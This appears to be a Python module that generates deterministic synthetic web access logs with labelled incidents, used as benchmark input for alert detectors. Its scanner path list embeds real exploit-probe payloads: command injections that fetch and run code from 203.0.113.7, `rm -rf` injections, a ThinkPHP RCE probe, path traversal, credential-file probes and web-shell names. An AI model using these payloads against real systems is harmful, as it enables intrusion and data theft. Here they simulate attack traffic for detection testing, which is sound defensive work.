"""Deterministic generator of realistic access-log traffic: demo data, benchmark input, alert ground truth.

One seed gives one byte-identical log in the Apache/nginx "combined" format, plus a list of injected
incidents with exact UTC windows (the ground truth an alert detector is scored against).

How the traffic is built (all random choices drawn as numpy arrays, then formatted in chunks):

- A visitor population (IP + user agent) from ~85 countries weighted like real web traffic; IPs are drawn
  from real networks of the bundled DB-IP database (found by probing the address space, ~0.15 s), ~10 %
  IPv6, a few private addresses. Visitors come back in sessions: landing page from a search engine or
  social site, a few more pages with internal referrers, static assets and API calls.
- Session starts follow a diurnal curve in each country's local time and a weekly one (weekends lower),
  with multiplicative noise; bots (~20 % of lines) follow a flat curve; load-balancer health checks are
  periodic.
- Incidents (when asked, from INCIDENT_MIN_LINES lines on) sit in non-overlapping minute-aligned windows
  that depend only on the seed, the span and its start, not on the line count.
- Real-world oddities (escaped quotes, spaces in URLs, ``"-"`` requests, TLS garbage, raw UTF-8 and latin-1
  bytes...) replace a few ordinary lines, so the line count stays exact.
"""

from __future__ import annotations

import argparse
import gzip
import json
import math
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from pathlib import Path
from zoneinfo import ZoneInfo

import maxminddb
import numpy as np

from dashboard.resources import GEOIP_DB

DB_PATH = GEOIP_DB
DEFAULT_DATE = (2026, 6, 1)  # a Monday; midnight in the requested zone
DEFAULT_DAYS = 7.0
SITE = "https://www.example.com"
CHUNK_LINES = 100_000
GZIP_LEVEL = 3
SIDECAR_SUFFIX = ".incidents.json"

BOT_SHARE = 0.185  # of the baseline rows (health checks and the scanner add the rest of the ~20 %)
HEALTH_SHARE = 0.008
IPV6_SHARE = 0.12  # of human visitors, when their country has IPv6 networks
PRIVATE_VISITOR_SHARE = 0.001
OFFICE_ACTIVITY = 4.0  # staff visit far more often than the public
OFFICE_MIN_VISITORS = 2
NAT_SHARE = 0.03  # visitors sharing the IP of another visitor of the same country
VISITOR_SCALE = 2.0  # visitors = VISITOR_SCALE * human_rows ** VISITOR_EXPONENT
VISITOR_EXPONENT = 0.72
REQUESTS_PER_SESSION = 9.0  # first guess only; sessions are drawn until the budget is met
PAGES_PER_SESSION_P = 0.38  # geometric: mean ~2.6 pages, ~38 % bounces
PAGE_GAP_LOG_MEAN = 3.3  # log-seconds between page views (median ~27 s)
FULL_LOAD_SHARE = 0.7  # landing pages that fetch every site asset
API_PER_PAGE = 0.45
BROKEN_LINK_SHARE = 0.01
TRACKING_PARAM_SHARE = 0.08

HOURLY_PROFILE = (  # human activity by local hour, 00:00 first
    0.30, 0.18, 0.11, 0.07, 0.06, 0.08, 0.16, 0.35, 0.62, 0.85, 0.96, 1.00,
    0.95, 0.97, 1.00, 0.98, 0.93, 0.86, 0.82, 0.86, 0.92, 0.85, 0.65, 0.45,
)  # fmt: skip
WEEKEND_FACTOR = 0.7
BOT_DIURNAL_AMPLITUDE = 0.12
NOISE_BLOCK_MINUTES = 10
NOISE_SIGMA = 0.08
DAY_NOISE_SIGMA = 0.05

NETWORKS_PER_COUNTRY = 48
PROBE_V4_STEP_BITS = 14  # probe every /18 at least
PROBE_V6_BLOCKS = (  # (first address, end, probe step as prefix length): the RIR blocks, Teredo and 6to4 left out
    (0x2001_0200 << 96, 0x2002 << 112, 30),
    (0x2400 << 112, 0x2410 << 112, 26),
    (0x2600 << 112, 0x2610 << 112, 26),
    (0x2800 << 112, 0x2810 << 112, 26),
    (0x2A00 << 112, 0x2A10 << 112, 26),
    (0x2C00 << 112, 0x2C10 << 112, 26),
)

INCIDENT_KINDS = ("5xx_burst", "scanner", "drop", "spike", "country_surge")
INCIDENT_MINUTES = {
    "5xx_burst": (20, 40),
    "scanner": (10, 30),
    "drop": (30, 90),
    "spike": (20, 60),
    "country_surge": (30, 90),
}
INCIDENT_MARGIN = 0.03  # share of the span kept free of incidents at both ends
INCIDENT_CANDIDATES = 8  # candidate starts per incident; the busiest wins (so a detector can see it)
BURST_ERROR_RATE = (0.3, 0.6)
BURST_STATUSES = ((502, 0.5), (503, 0.3), (500, 0.2))
DROP_KEEP = (0.1, 0.2)
SPIKE_FACTOR = (3.0, 5.0)
SURGE_FACTOR = (0.6, 1.5)  # surge rows relative to the normal rows of the window
SURGE_MAX_WEIGHT = 0.1  # countries at most this share (in %) of normal traffic can surge
SCANNER_DISTINCT = (250, 480)
SCANNER_REPEAT_SHARE = 0.08
INCIDENT_MIN_LINES = 1000  # smaller samples get no incidents: there would be nothing to detect
INCIDENT_MAX_SHARE = 0.03  # scanner and surge rows each stay below this share of the log

PROTOCOLS = ("HTTP/1.1", "HTTP/2.0", "HTTP/3.0", "HTTP/1.0")
HUMAN_PROTOCOL_P = (0.9983, 0.0015, 0.0002, 0.0)  # behind a proxy that speaks HTTP/1.1 to the origin
METHODS = ("GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS")
USERS = ("-", "alice", "bob", "deploy")
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

# Real-world oddities: kind → share of lines. MALFORMED ones break a naive combined regex.
ODDITY_RATES = {
    "escaped_quote": 0.0002,
    "space_in_url": 0.00015,
    "dash_request": 0.0002,
    "no_protocol": 0.00005,
    "tls_garbage": 0.0001,
    "binary_probe": 0.00005,
    "raw_utf8": 0.0002,
    "latin1_bytes": 0.0001,
    "escaped_bytes": 0.0001,
}
MALFORMED_ODDITIES = ("escaped_quote", "space_in_url", "dash_request", "no_protocol", "tls_garbage", "binary_probe")
ODDITY_MIN_LINES = 5000  # from this size on, every oddity kind appears at least once

# Row sources (the ``src`` column of a plan).
SRC_HUMAN, SRC_BOT, SRC_HEALTH, SRC_SCANNER, SRC_SURGE = range(5)

# (ISO code, share of traffic in %, rough UTC offset of its visitors in hours)
COUNTRIES = (
    ("US", 24.0, -6), ("DE", 6.0, 2), ("GB", 5.0, 1), ("IN", 5.5, 5.5), ("CN", 4.5, 8), ("FR", 3.5, 2),
    ("JP", 3.0, 9), ("BR", 3.0, -3), ("CA", 2.8, -5), ("RU", 2.2, 3), ("NL", 2.0, 2), ("IT", 1.8, 2),
    ("ES", 1.8, 2), ("AU", 1.6, 10), ("KR", 1.4, 9), ("PL", 1.3, 2), ("ID", 1.3, 7), ("MX", 1.3, -6),
    ("TR", 1.1, 3), ("SE", 0.9, 2), ("UA", 0.9, 3), ("VN", 0.9, 7), ("TW", 0.8, 8), ("CH", 0.8, 2),
    ("BE", 0.7, 2), ("SG", 0.8, 8), ("HK", 0.7, 8), ("AR", 0.7, -3), ("PH", 0.7, 8), ("TH", 0.7, 7),
    ("IR", 0.6, 3.5), ("PK", 0.6, 5), ("NG", 0.6, 1), ("EG", 0.5, 3), ("ZA", 0.5, 2), ("AT", 0.5, 2),
    ("CZ", 0.5, 2), ("RO", 0.5, 3), ("IL", 0.5, 3), ("DK", 0.45, 2), ("FI", 0.4, 3), ("NO", 0.4, 2),
    ("PT", 0.4, 1), ("GR", 0.35, 3), ("HU", 0.35, 2), ("IE", 0.4, 1), ("NZ", 0.3, 12), ("MY", 0.5, 8),
    ("BD", 0.5, 6), ("CO", 0.5, -5), ("CL", 0.4, -4), ("PE", 0.3, -5), ("SA", 0.35, 3), ("AE", 0.4, 4),
    ("KE", 0.25, 3), ("MA", 0.25, 1), ("DZ", 0.2, 1), ("BG", 0.25, 3), ("RS", 0.2, 2), ("HR", 0.15, 2),
    ("SK", 0.2, 2), ("SI", 0.12, 2), ("LT", 0.15, 3), ("LV", 0.12, 3), ("EE", 0.12, 3), ("BY", 0.2, 3),
    ("KZ", 0.2, 5), ("VE", 0.2, -4), ("EC", 0.15, -5), ("UY", 0.1, -3), ("CR", 0.1, -6), ("LK", 0.12, 5.5),
    ("NP", 0.1, 5.75), ("TN", 0.1, 1), ("GH", 0.1, 0), ("ET", 0.08, 3), ("IS", 0.06, 0), ("LU", 0.08, 2),
    ("CY", 0.07, 3), ("MT", 0.06, 2), ("QA", 0.08, 3), ("KW", 0.08, 3), ("JO", 0.08, 3), ("GE", 0.08, 4),
    ("AM", 0.07, 4), ("MN", 0.06, 8), ("BO", 0.07, -4),
)  # fmt: skip
OFFICE_OFFSET = 2.0  # the private-address visitors work in the site's own zone
HOSTING_COUNTRIES = ("US", "DE", "NL", "FR", "GB", "SG", "IE", "FI", "CA", "JP")
SCANNER_COUNTRIES = ("NL", "RU", "CN", "US", "DE", "SG", "VN", "BR", "HK", "BG", "FR", "IN")
HEALTH_IPS = ("10.0.0.12", "10.0.1.17", "10.0.2.9")
HEALTH_AGENTS = ("ELB-HealthChecker/2.0", "kube-probe/1.31")

# Referrers of landing pages: (referrer, weight); "-" is code 0.
EXTERNAL_REFERRERS = (
    ("-", 42.0), ("https://www.google.com/", 31.0), ("https://www.google.de/", 1.2),
    ("https://www.google.co.uk/", 0.9), ("https://www.google.fr/", 0.5), ("https://www.bing.com/", 4.0),
    ("https://duckduckgo.com/", 2.0), ("https://search.yahoo.com/", 0.5), ("https://yandex.ru/", 0.9),
    ("https://www.baidu.com/", 0.5), ("https://www.ecosia.org/", 0.4), ("https://t.co/", 1.5),
    ("https://l.facebook.com/", 1.5), ("https://m.facebook.com/", 0.8), ("https://www.facebook.com/", 0.7),
    ("https://l.instagram.com/", 0.8), ("https://www.linkedin.com/", 1.0), ("https://www.reddit.com/", 1.5),
    ("https://news.ycombinator.com/", 0.8), ("https://www.youtube.com/", 0.5), ("https://github.com/", 1.0),
    ("https://stackoverflow.com/", 0.7), ("android-app://com.google.android.gm/", 0.3),
    ("android-app://com.slack/", 0.2), ("https://chatgpt.com/", 1.2), ("https://www.perplexity.ai/", 0.4),
    ("https://www.qwant.com/", 0.2), ("https://search.brave.com/", 0.3),
)  # fmt: skip
SPIKE_REFERRERS = (
    ("https://news.ycombinator.com/", 0.55), ("https://www.reddit.com/", 0.2), ("https://t.co/", 0.1),
    ("-", 0.15),
)  # fmt: skip

# Sizes (bytes) of the error and redirect pages; -1 is logged as "-".
STATUS_SIZES = {
    204: -1, 206: 524288, 301: 178, 302: 154, 304: -1, 400: 157, 401: 172, 403: 153, 404: 4872, 405: 166,
    408: -1, 429: 568, 500: 1042, 502: 157, 503: 197, 504: 167,
}  # fmt: skip
RARE_ERRORS = ((500, 0.0008), (502, 0.0004), (503, 0.0003), (504, 0.0001))
CONDITIONAL_HTML_SHARE = 0.03
FEED_NOT_MODIFIED_SHARE = 0.5
THROTTLED_BOTS = ("AhrefsBot", "SemrushBot", "Bytespider", "GPTBot", "MJ12bot")
THROTTLE_SHARE = 0.01

# Content types of catalog entries and (median size, log-normal sigma) of a 200 response.
HTML, CSS, JS, IMG, FONT, JSON, XML, TXT, FEED, ICO = range(10)
SIZE_SIGMA = (0.08, 0.0, 0.0, 0.0, 0.0, 0.6, 0.02, 0.0, 0.02, 0.0)
DYNAMIC_TYPES = (HTML, JSON, XML, FEED)

# Browser user agents (mid-2026). Shares are % of human visitors, spread over versions newest first.
WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
SAFARI_WEBKIT = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
CHROME_LATEST = 149
CHROME_VERSIONS = 22
FIREFOX_LATEST = 152
FIREFOX_ESR = ((140, 0.07), (128, 0.02), (115, 0.01))  # (version, part of the Firefox share)
CHROME_NAMES = {"desktop": "Chrome", "mobile": "Chrome Mobile"}
CHROME_PLATFORMS = (  # (platform, os, device, share)
    ("Windows NT 10.0; Win64; x64", "Windows", "desktop", 30.0),
    ("Macintosh; Intel Mac OS X 10_15_7", "Mac OS X", "desktop", 8.0),
    ("X11; Linux x86_64", "Linux", "desktop", 1.5),
    ("X11; CrOS x86_64 14541.0.0", "Chrome OS", "desktop", 0.8),
    ("Linux; Android 10; K", "Android", "mobile", 22.0),
)
OLD_ANDROID_CHROME = (  # devices stuck on an old Chrome still send the full, unreduced string
    ("SM-A125F", 11, 108), ("SM-J730F", 9, 103), ("Redmi Note 8", 11, 106), ("moto g(7) power", 10, 99),
    ("SM-G960F", 10, 107), ("Nokia 7.2", 11, 105), ("HUAWEI P30 lite", 10, 96), ("LM-Q720", 9, 92),
)  # fmt: skip
IOS_SAFARI = (  # iOS 26 still reports "OS 18_6" and puts the real version in Version/
    (("18_6", "26.5"), 6.0), (("18_6", "26.4"), 3.5), (("18_6", "26.3"), 1.2), (("18_6", "26.2"), 0.8),
    (("18_6", "26.1"), 0.5), (("18_6", "26.0"), 0.4), (("18_6", "18.6"), 1.2), (("18_5", "18.5"), 0.8),
    (("18_4", "18.4"), 0.4), (("18_3", "18.3"), 0.3), (("17_7", "17.7"), 0.5), (("17_6", "17.6"), 0.2),
    (("16_7", "16.7"), 0.15), (("15_8", "15.8"), 0.05),
)  # fmt: skip
MAC_SAFARI = (
    ("26.5", 2.2), ("26.4", 1.2), ("26.3", 0.5), ("26.1", 0.3), ("18.6", 0.5), ("18.5", 0.3), ("17.6", 0.2),
    ("16.6", 0.1),
)  # fmt: skip
EDGE_PLATFORMS = (
    ("Windows NT 10.0; Win64; x64", "Windows", "desktop", 5.0),
    ("Macintosh; Intel Mac OS X 10_15_7", "Mac OS X", "desktop", 0.5),
    ("Linux; Android 10; K", "Android", "mobile", 0.4),
)
FIREFOX_PLATFORMS = (  # (platform, os, device, share, Gecko token)
    ("Windows NT 10.0; Win64; x64; rv:{v}.0", "Windows", "desktop", 2.5, "Gecko/20100101"),
    ("Macintosh; Intel Mac OS X 10.15; rv:{v}.0", "Mac OS X", "desktop", 0.6, "Gecko/20100101"),
    ("X11; Linux x86_64; rv:{v}.0", "Linux", "desktop", 0.5, "Gecko/20100101"),
    ("X11; Ubuntu; Linux x86_64; rv:{v}.0", "Ubuntu", "desktop", 0.3, "Gecko/20100101"),
    ("Android 15; Mobile; rv:{v}.0", "Android", "mobile", 0.4, "Gecko/{v}.0"),
)
SAMSUNG_VERSIONS = ((29, 142), (28, 138), (27, 134), (26, 130), (25, 121), (24, 117), (23, 115))
SAMSUNG_MODELS = (
    ("SM-S928B", 14), ("SM-S918B", 14), ("SM-A546B", 14), ("SM-A346B", 14), ("SM-G991B", 13), ("SM-X710", 14),
)  # fmt: skip
OPERA_VERSIONS = ((134, 149), (133, 148), (132, 147), (131, 146), (130, 145), (128, 143))
YANDEX_VERSIONS = (("26.6.0", 146), ("26.3.0", 144), ("25.12.0", 142), ("25.10.0", 140))
OTHER_BROWSERS = (  # (UA with {webkit}, browser, os, device, share)
    ("Mozilla/5.0 (Linux; U; Android 13; en-US; V2230 Build/TP1A.220624.014) {webkit} Version/4.0 "
     "Chrome/123.0.6312.80 UCBrowser/13.8.2.1324 Mobile Safari/537.36", "UC Browser", "Android", "mobile", 0.3),
    ("Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", "IE", "Windows", "desktop", 0.08),
    ("Mozilla/5.0 (Linux; Android 10; K) {webkit} Chrome/149.0.0.0 Mobile Safari/537.36 DuckDuckGo/5",
     "DuckDuckGo", "Android", "mobile", 0.2),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/26.5 Mobile/15E148 DuckDuckGo/7 Safari/605.1.15", "DuckDuckGo", "iOS", "mobile", 0.15),
    ("Mozilla/5.0 (X11; Linux x86_64) {webkit} Chrome/148.0.0.0 Safari/537.36 Vivaldi/7.5", "Vivaldi", "Linux",
     "desktop", 0.05),
    ("Mozilla/5.0 (Linux; Android 10; K) {webkit} Chrome/148.0.0.0 Mobile Safari/537.36 OPR/92.0.0.0",
     "Opera Mobile", "Android", "mobile", 0.25),
    ("Mozilla/5.0 (SMART-TV; Linux; Tizen 8.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/7.0 "
     "Chrome/120.0.6099.5 TV Safari/537.36", "Samsung Internet", "Tizen", "other", 0.02),
    ("Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)", "Playstation",
     "Other", "other", 0.01),
)  # fmt: skip
ANDROID_MODELS = (  # (model, build, Android version) of in-app browsers (WebView strings keep the model)
    ("SM-S931B", "AP3A.240905.015.A2", 15), ("SM-A556B", "AP3A.240905.015.A2", 15),
    ("SM-A155F", "UP1A.231005.007", 14), ("Pixel 9 Pro", "BP1A.250505.005", 16),
    ("Pixel 8", "BP1A.250505.005", 16), ("23129RAA4G", "UKQ1.231003.002", 14),
    ("CPH2591", "UKQ1.230924.001", 14), ("moto g54 5G", "U1TDS34.94-12-7-4", 14),
    ("SM-G991B", "TP1A.220624.014", 13), ("RMX3710", "TP1A.220905.001", 13),
    ("V2230", "TP1A.220624.014", 13), ("2201117TG", "TKQ1.221114.001", 13),
)  # fmt: skip
IN_APP_ANDROID = (
    ("Instagram 389.0.0.48.87 Android", "Instagram", 1.2),
    ("[FB_IAB/FB4A;FBAV/512.0.0.57.109;]", "Facebook", 1.0),
)
IN_APP_IOS = (
    ("Instagram 389.0.0.31.85 (iPhone16,2; iOS {v}; en_US; en; scale=3.00; 1290x2796; 745203981)", "Instagram", 0.8),
    ("[FBAN/FBIOS;FBAV/512.0.0.41.109;FBBV/705129447;FBDV/iPhone15,3;FBMD/iPhone;FBSN/iOS;FBSV/{d};FBSS/3;"
     "FBID/phone;FBLC/en_US;FBOP/5]", "Facebook", 0.6),
)  # fmt: skip

CATALOG_SEED = 20260601  # the site's catalog does not depend on the sample seed
BLOG_WORDS = (
    "nginx", "logs", "latency", "caching", "python", "streamlit", "dashboards", "geoip", "alerts", "metrics",
    "postgres", "kubernetes", "cdn", "http2", "tls", "cookies", "privacy", "seo", "redirects", "webhooks",
    "pandas", "arrow", "parquet", "spark", "budget", "uptime", "incidents", "oncall", "retention", "sampling",
)  # fmt: skip
BLOG_PATTERNS = (
    "how-to-{a}-{b}", "{a}-vs-{b}", "why-{a}-matters", "a-guide-to-{a}-and-{b}", "{a}-in-production",
    "debugging-{a}", "{a}-{b}-checklist", "what-we-learned-from-{a}", "faster-{a}-with-{b}", "{a}-tips",
)  # fmt: skip
PRODUCT_WORDS = (
    "linen", "wool", "canvas", "leather", "ceramic", "oak", "walnut", "steel", "cotton", "bamboo", "glass",
    "copper", "felt", "cork", "marble",
)  # fmt: skip
PRODUCT_ITEMS = (
    "shirt", "scarf", "tote", "wallet", "mug", "desk-lamp", "notebook", "backpack", "chair", "bowl",
    "planter", "clock", "blanket", "cap", "apron",
)  # fmt: skip
SEARCH_TERMS = (
    "wallet", "gift card", "shipping", "returns", "linen shirt", "mug", "size guide", "discount", "lamp",
    "black friday", "backpack", "nginx logs", "api", "pricing", "login", "blue", "oak desk", "sale",
)  # fmt: skip
COLORS = ("black", "white", "navy", "olive", "sand", "red")
SIZES = ("xs", "s", "m", "l", "xl")
UTM_PARAMS = (
    "?utm_source=newsletter&utm_medium=email&utm_campaign=june",
    "?utm_source=twitter&utm_medium=social",
    "?utm_source=google&utm_medium=cpc&utm_campaign=brand",
    "?ref=producthunt",
)  # fmt: skip
TRACKING_IDS = ("fbclid", "gclid", "msclkid")
TOKEN_ALPHABET = tuple("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-")
SITE_ASSETS = (
    ("/static/css/main.3f9a1c.css", CSS, 48_211),
    ("/static/js/vendor.c71f0a.js", JS, 187_402),
    ("/static/js/app.8b2e4d.js", JS, 64_877),
    ("/static/fonts/inter-var.woff2", FONT, 97_868),
    ("/static/img/logo.svg", IMG, 3_412),
    ("/favicon.ico", ICO, 15_086),
)  # fmt: skip
PARTIAL_ASSETS = (
    ("/apple-touch-icon.png", IMG, 9_734),
    ("/static/img/hero.webp", IMG, 142_380),
    ("/static/img/sprite.svg", IMG, 21_559),
    ("/site.webmanifest", JSON, 426),
    ("/media/demo.mp4", IMG, 8_408_211),
)  # fmt: skip
# (path, content type, size, default status, weight for humans, weight for crawlers)
FIXED_PAGES = (
    ("/", HTML, 24_310, 200, 15.0, 3.0), ("/blog/", HTML, 31_200, 200, 4.0, 2.0),
    ("/products/", HTML, 38_900, 200, 4.0, 2.0), ("/pricing", HTML, 19_880, 200, 3.0, 1.0),
    ("/about", HTML, 15_420, 200, 1.5, 1.0), ("/contact", HTML, 12_010, 200, 1.0, 1.0),
    ("/docs/", HTML, 22_760, 200, 2.0, 1.0), ("/login", HTML, 9_870, 200, 1.5, 0.3),
    ("/signup", HTML, 11_240, 200, 0.8, 0.3), ("/cart", HTML, 14_500, 200, 1.0, 0.1),
    ("/account", HTML, 154, 302, 0.8, 0.1), ("/logout", HTML, 154, 302, 0.2, 0.0),
    ("/blog", HTML, 178, 301, 0.3, 0.5), ("/products", HTML, 178, 301, 0.2, 0.5),
    ("/index.html", HTML, 178, 301, 0.1, 0.3), ("/feed", FEED, 178, 301, 0.0, 0.3),
    ("/robots.txt", TXT, 212, 200, 0.0, 4.0), ("/sitemap.xml", XML, 26_480, 200, 0.0, 2.0),
    ("/feed.xml", FEED, 84_190, 200, 0.05, 0.5), ("/ads.txt", TXT, 96, 200, 0.0, 0.3),
    ("/.well-known/security.txt", TXT, 301, 200, 0.0, 0.2), ("/health", TXT, 2, 200, 0.0, 0.0),
    ("/healthz", TXT, 2, 200, 0.0, 0.0),
)  # fmt: skip
MISSING_PAGES = (
    "/favicon.png", "/apple-touch-icon-precomposed.png", "/.well-known/traffic-advice", "/blog/feed/",
    "/old-site/index.php", "/shop/cart.php", "/docs/v1/", "/undefined", "/null", "/blog/page/99",
)  # fmt: skip
API_ENTRIES = (  # (method, path, status, size, weight)
    ("POST", "/api/v1/events", 204, -1, 30.0), ("GET", "/api/v1/cart", 200, 612, 8.0),
    ("POST", "/api/v1/cart/items", 201, 448, 4.0), ("GET", "/api/v1/session", 200, 183, 5.0),
    ("GET", "/api/v1/session", 401, 61, 1.5), ("OPTIONS", "/api/v1/events", 204, -1, 1.0),
    ("POST", "/login", 302, 154, 1.2), ("POST", "/login", 200, 10_120, 0.4), ("POST", "/contact", 302, 154, 0.3),
    ("POST", "/checkout", 302, 154, 0.5), ("GET", "/api/v1/recommendations", 200, 2_870, 4.0),
)  # fmt: skip
API_VARIANTS = (  # (method, path template, count, status, size, weight)
    ("GET", "/api/v1/products?page={}", 6, 200, 3_410, 10.0),
    ("PUT", "/api/v1/cart/items/{}", 40, 200, 421, 2.0),
    ("DELETE", "/api/v1/cart/items/{}", 40, 204, -1, 1.5),
    ("GET", "/api/v1/products/{}/reviews", 60, 200, 5_120, 3.0),
)  # fmt: skip

SCANNER_FILES = (
    "/.env", "/.env.bak", "/.env.local", "/.env.production", "/.env.save", "/.git/config", "/.git/HEAD",
    "/.gitignore", "/.svn/entries", "/.hg/hgrc", "/.DS_Store", "/.htaccess", "/.htpasswd", "/config.php",
    "/config.php.bak", "/config.inc.php", "/wp-config.php", "/wp-config.php.bak", "/wp-config.php~",
    "/wp-config.old", "/wp-login.php", "/wp-admin/", "/wp-admin/setup-config.php", "/wp-admin/install.php",
    "/wp-admin/admin-ajax.php", "/xmlrpc.php", "/wp-includes/wlwmanifest.xml", "/wp-json/wp/v2/users",
    "/phpmyadmin/", "/phpMyAdmin/", "/pma/", "/myadmin/", "/mysql/", "/admin.php", "/admin/",
    "/administrator/", "/admin/login.php", "/admin/config.php", "/login.php", "/user/login", "/server-status",
    "/server-info", "/phpinfo.php", "/info.php", "/test.php", "/i.php", "/backup.zip", "/backup.sql",
    "/backup.tar.gz", "/db.sql", "/dump.sql", "/database.sql", "/site.zip", "/www.zip", "/web.config",
    "/config.json", "/config.yml", "/settings.py", "/docker-compose.yml", "/Dockerfile", "/.aws/credentials",
    "/.ssh/id_rsa", "/id_rsa", "/actuator/health", "/actuator/env", "/actuator/heapdump", "/api/.env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/test-cgi", "/cgi-bin/php",
    "/boaform/admin/formLogin", "/HNAP1/", "/solr/admin/info/system", "/console/", "/manager/html",
    "/jenkins/login", "/.vscode/sftp.json", "/sftp-config.json", "/owa/auth/logon.aspx", "/remote/login",
    "/global-protect/login.esp", "/geoserver/web/", "/telescope/requests", "/_profiler/phpinfo",
    "/debug/default/view", "/laravel/.env", "/storage/logs/laravel.log", "/elmah.axd", "/trace.axd",
    "/.well-known/acme-challenge/test", "/autodiscover/autodiscover.xml", "/ecp/Current/exporttool/",
    "/v2/_catalog", "/api/v1/pods", "/druid/index.html", "/nacos/", "/hudson", "/login.action",
    "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1",
    "/?XDEBUG_SESSION_START=phpstorm", "/index.php?lang=../../../../../../../../tmp/index1",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://203.0.113.7/t%60)",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/jaws;sh+/tmp/jaws", "/GponForm/diag_Form?images/",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", "/admin.php?page=settings&id=1%27",
)  # fmt: skip
SCANNER_PREFIXES = (
    "/wordpress", "/wp", "/blog", "/old", "/new", "/backup", "/test", "/site", "/cms", "/shop", "/dev",
    "/staging", "/api", "/public", "/app", "/web",
)  # fmt: skip
SCANNER_PREFIXED = (
    "/.env.bak", "/config.json", "/info.php", "/.DS_Store", "/admin/", "/login.php", "/.env", "/.git/config",
    "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/wp-includes/wlwmanifest.xml", "/config.php", "/phpinfo.php",
    "/backup.zip",
)  # fmt: skip
SCANNER_SHELLS = (
    "alfa", "wso", "up", "xleet", "0x", "shell", "cmd", "c99", "r57", "b374k", "indoxploit", "mini", "about",
    "radio", "wp-conflg", "fm", "filemanager", "upload", "uploader", "gel4y", "simple", "lock360", "chosen",
    "moon", "classwithtostring", "install", "setup", "x", "xx", "1", "2", "a", "bak", "old", "content",
)  # fmt: skip
SCANNER_BACKUPS = ("backup", "site", "www", "db", "database", "example", "example.com", "dump", "data", "old")
SCANNER_ARCHIVES = (".zip", ".tar.gz", ".sql", ".rar", ".7z", ".bak")
SCANNER_FORBIDDEN = ("/.htaccess", "/.htpasswd", "/server-status", "/server-info", "/.git/HEAD")
SCANNER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 "
    "Safari/537.36",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Fuzz Faster U Fool v2.1.0-dev",
)  # fmt: skip


# Bots: (label, UA, behaviour, share of bot rows in %, published networks as CIDRs or "" for hosting countries)
BOTS = (
    ("Googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler", 9.0,
     "66.249.64.0/19 2001:4860:4801:10::/64"),
    ("Googlebot", "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Chrome/149.0.7727.55 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
     "crawler", 13.0, "66.249.64.0/19 2001:4860:4801:10::/64"),
    ("Googlebot-Image", "Googlebot-Image/1.0", "preview", 1.5, "66.249.64.0/19"),
    ("bingbot", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "crawler", 3.0,
     "157.55.39.0/24 207.46.13.0/24 40.77.167.0/24"),
    ("bingbot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
     "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", "crawler", 5.0,
     "157.55.39.0/24 207.46.13.0/24 40.77.167.0/24 52.167.144.0/24"),
    ("YandexBot", "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "crawler", 3.0,
     "5.255.231.0/24 87.250.224.0/24 213.180.203.0/24 95.108.213.0/24"),
    ("Baiduspider", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
     "crawler", 1.5, "116.179.32.0/24 220.181.108.0/24"),
    ("DuckDuckBot", "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "crawler", 0.8, ""),
    ("Applebot", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", "crawler", 2.5,
     "17.241.219.0/24 17.22.237.0/24"),
    ("AhrefsBot", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "crawler", 9.0,
     "54.36.148.0/23 51.222.253.0/24"),
    ("SemrushBot", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "crawler", 7.0,
     "185.191.171.0/24 85.208.96.0/24 85.208.98.0/24"),
    ("MJ12bot", "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", "crawler", 2.0, ""),
    ("DotBot", "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
     "crawler", 1.5, "216.244.66.0/24"),
    ("PetalBot", "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
